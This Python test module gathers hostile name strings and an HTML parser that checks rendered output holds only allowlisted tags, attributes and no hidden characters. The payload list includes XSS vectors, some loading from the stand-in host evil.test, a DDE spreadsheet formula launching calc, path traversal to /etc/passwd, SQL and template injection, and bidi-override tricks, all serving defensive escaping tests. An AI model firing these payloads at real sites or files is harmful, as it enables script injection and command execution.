"""Names that try to be more than text, and a parser that sees whether they managed."""

import re
from html.parser import HTMLParser
from typing import Final

_SCRIPT: Final = [
    "<script>alert(1)</script>", "<SCRIPT SRC=//evil.test/x.js></SCRIPT>",
    "</td></tr></table><script>alert(1)</script>", "</style><script>alert(1)</script>",
    "--><script>alert(1)</script>", "]]><script>alert(1)</script>", "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>", "<img src='x' onerror='alert(1)'>", '"><img src=x onerror=alert(1)>',
    "'><img src=x onerror=alert(1)>", "<svg onload=alert(1)>", "<svg/onload=alert(1)//",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext></mtext><mglyph><svg><mtext><textarea><path id=x></textarea></mtext></svg></math>",
    "<iframe src=javascript:alert(1)></iframe>", "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=javascript:alert(1)>", "<embed src=//evil.test>", "<a href='javascript:alert(1)'>x</a>",
    "<a href=# onclick=alert(1)>x</a>", "<body onload=alert(1)>", "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>", "<video><source onerror=alert(1)>", "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>", "<form action=//evil.test><input type=submit>",
    "<button formaction=javascript:alert(1)>x", "<meta http-equiv=refresh content='0;url=//evil.test'>",
    "<base href=//evil.test/>", "<link rel=stylesheet href=//evil.test/x.css>",
    "<style>*{background:url(//evil.test)}</style>", "<div style='position:fixed;inset:0'>x</div>",
    "<template><img src=x onerror=alert(1)></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<textarea></textarea><img src=x onerror=alert(1)>", "<xmp><img src=x onerror=alert(1)></xmp>",
    "<!--<img src='--><img src=x onerror=alert(1)//'>", "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml version='1.0'?><x/>", "<x onmouseover=alert(1)>x", "` onmouseover=alert(1) x=`", "' onmouseover='alert(1)",
    '" onmouseover="alert(1)', "javascript:alert(1)", "data:text/html,<script>alert(1)</script>",
]  # fmt: skip
_ENTITIES: Final = [
    "&lt;b&gt;", "&amp;lt;script&amp;gt;", "&#60;script&#62;", "&#x3c;img src=x&#x3e;", "&", "&&amp;;",
    "&notanentity;", "<", ">", "<>", "<<<<", '"', "'",
]  # fmt: skip
_MATHS: Final = [
    "$x$", "$$\\href{javascript:alert(1)}{x}$$", "\\(x\\)", "\\[\\unicode{x41}\\]",
    "\\begin{equation}x\\end{equation}", "`code` **bold** [x](javascript:alert(1))",
]  # fmt: skip
_UNSEEN: Final = [
    "\u202egnp.exe", "Ada\u202dExample", "\u2066Ada\u2069", "\u061cAda", "Ada\u200bExample", "Ada\u200d", "Ada\u2060",
    "\ufeffAda", "Ada\xad", "Ada\u180e", "Ada\u3164", "Ada\u115f", "Ada\ufe0f", "Ada\u034f", "A\U000e0041da",
    "Ada\u2028Example", "Ada\u2029Example", "Ada\x00Example", "Ada\x07", "\x1b[31mAda\x1b[0m", "Ada\r\nExample",
    "Ada\tExample", "\x7f", "\x9bAda", "\ue000", "\ufffe", "Z̷̢͔̀a̸l̶g̵o̴",
]  # fmt: skip
_FORMULAS: Final = [
    '=HYPERLINK("//evil.test","x")', "=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(1)",
]  # fmt: skip
_PLACES: Final = [
    "/etc/passwd", "file:///etc/passwd", "..\\..\\windows\\win.ini", "http://evil.test/x.png",
]  # fmt: skip
_OTHERS: Final = [
    "A" * 5_000, "<b>" * 2_000, "&" * 3_000, "\u202e" * 1_000, "\U0001f469\u200d\U0001f4bb" * 200,
    "раураl",  # Cyrillic letters that look Latin
    "Ａｄａ", "{{7*7}} ${7*7} #{7*7} <%= 7*7 %>", "'; DROP TABLE customers; --", "%3Cscript%3Ealert(1)%3C/script%3E",
    "None", "nan", "<NA>", "–",
]  # fmt: skip
PAYLOADS: Final = [*_SCRIPT, *_ENTITIES, *_MATHS, *_UNSEEN, *_FORMULAS, *_PLACES, *_OTHERS]

TAGS: Final = {"b", "div", "h3", "h4", "p", "progress", "span", "table", "tbody", "td", "th", "thead", "tr"}
ATTRIBUTES: Final = {"class", "role", "aria-live", "aria-label", "aria-hidden", "tabindex", "scope", "value", "max"}
# What a text must not show of itself: characters of direction, of control and of no width.
HIDDEN: Final = re.compile("[\x00-\x1f\x7f-\x9f\u00ad\u061c\u200b-\u200f\u2028-\u202e\u2060-\u2069\ufeff\ue000\ufffe]")


class Seen(HTMLParser):
    """What a browser would make of HTML: tags, attributes, texts, cells."""

    def __init__(self, source: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: set[str] = set()
        self.attributes: dict[str, str | None] = {}
        self.cells: list[str] = []
        self.text = ""
        self.odd: list[str] = []
        self._in_cell = False
        self.feed(source)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes |= dict(attrs)
        if tag in {"td", "th"}:
            self._in_cell = True
            self.cells.append("")

    def handle_endtag(self, tag: str) -> None:
        if tag in {"td", "th"}:
            self._in_cell = False

    def handle_data(self, data: str) -> None:
        self.text += data
        if self._in_cell:
            self.cells[-1] += data

    def _odd(self, data: str) -> None:
        self.odd.append(data)

    handle_comment = handle_decl = handle_pi = unknown_decl = _odd  # type: ignore[assignment]


def check_calm(source: str) -> Seen:
    """Fail unless HTML holds nothing but our own tags and attributes."""
    seen = Seen(source)
    assert seen.tags <= TAGS, seen.tags
    assert seen.attributes.keys() <= ATTRIBUTES, seen.attributes
    assert not seen.odd, seen.odd
    assert not HIDDEN.search(seen.text), repr(seen.text[:200])
    return seen
